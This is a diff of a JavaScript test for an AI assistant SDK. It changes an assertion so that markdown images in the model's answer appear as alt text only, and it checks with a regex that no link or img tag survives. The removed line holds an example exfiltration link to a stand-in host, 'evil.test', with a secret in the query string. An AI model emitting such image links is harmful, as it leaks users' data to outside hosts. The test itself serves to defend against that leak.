@@ -140,7 +140,8 @@ describe('the assistant with a model, by the clients of its SDK', () => {
       .filter((line) => line.startsWith('0:'))
       .map((line) => JSON.parse(line.slice(2)))
       .join('')
-    expect(answer).toContain('![x] (`https://evil.test/?q=SECRET`)')
+    // The text of the image, without its address.
+    expect(answer).toContain('what other sites say. x')
     expect(answer).not.toMatch(/\]\(https|\]: https|(?<!\\)<img/)
   })
 
